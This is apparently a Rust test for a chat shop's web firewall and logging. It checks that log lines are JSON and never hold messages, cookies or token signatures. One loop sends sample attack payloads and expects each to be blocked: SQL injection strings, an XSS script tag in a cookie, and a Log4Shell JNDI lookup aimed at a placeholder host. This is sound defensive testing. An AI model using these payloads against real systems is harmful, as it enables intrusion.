//! What the logs hold, and what they must not.

use crate::fixture::{DISCOVERY, FakeOrigin, Log, Reply, SHIPPING, Shop, eventually, message, token_of};

#[tokio::test(flavor = "multi_thread")]
async fn logs_tell_of_requests_and_turns_and_hold_no_message_and_no_credential() {
    let log = Log::start();
    let origin = FakeOrigin::answering(&["Try the purple answer."]);
    let shop = Shop::with_origin(&origin).await;
    let guest = shop.guest().await;
    let bad = r#"{"id":"7","text":"my purple secret"}"#;
    assert_eq!(guest.post("/v1/chat/messages?token=purple-query", bad).await.status, 422);
    guest.ask(&message(SHIPPING)).await.answer();
    let question = message(&format!("{DISCOVERY}, with a purple cover"));
    guest.ask(&question).await.answer();
    let mut socket = guest.socket().await;
    socket.send_text("purple nonsense").await;
    socket.next().await;
    // What a rule matched is not shown where it may be a credential or somebody's words.
    for attack in [
        guest.request(reqwest::Method::GET, "/?password=purple'%20or%201=1--%20"),
        guest.request(reqwest::Method::GET, "/").header("cookie", "theme=purple<script>alert(1)</script>"),
        guest
            .request(reqwest::Method::GET, "/")
            .header("authorization", "Bearer ${jndi:ldap://purple.example/a}"),
        guest
            .request(reqwest::Method::POST, "/v1/chat/messages")
            .header("content-type", "application/json")
            .body(r#"{"note":"purple' or 1=1-- "}"#),
    ] {
        let reply = Reply::to(attack).await;
        assert_eq!(reply.status, 403, "{}", reply.body);
    }
    let upgrade = guest.request(reqwest::Method::POST, "/v1/session/upgrade");
    let upgraded = Reply::to(upgrade.bearer_auth(token_of("C1001"))).await;
    eventually("the turn is logged", || async { log.text().contains(&question.id.to_string()) }).await;
    let text = log.text();
    for line in text.lines() {
        serde_json::from_str::<serde_json::Value>(line).expect("each line is one JSON object");
    }
    assert!(text.contains(r#""event":"rule-matched""#), "{text}");
    assert!(text.contains(r#""route":"messages""#) && text.contains(r#""source":"origin""#), "{text}");
    let token = token_of("C1001");
    let signature = token.rsplit('.').next().expect("a token has a signature");
    let value = |cookie: &str| cookie.split_once('=').map(|(_, value)| value.to_owned()).expect("name=value");
    for secret in
        ["purple", SHIPPING, DISCOVERY, signature, &value(&guest.cookie), &value(&upgraded.cookie())]
    {
        assert!(!text.contains(secret), "`{secret}` is in the log:\n{text}");
    }
}
